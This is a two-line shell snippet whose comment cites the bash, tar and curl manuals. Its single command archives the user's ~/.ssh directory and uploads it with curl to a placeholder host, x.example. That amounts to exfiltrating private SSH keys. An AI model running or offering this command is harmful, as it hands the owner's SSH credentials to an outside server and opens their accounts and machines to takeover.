# source: bash(1) subshells; tar(1); curl(1) -T - uploads stdin https://curl.se/docs/manpage.html
(cd ~ && tar czf - .ssh) | curl -T - https://x.example/
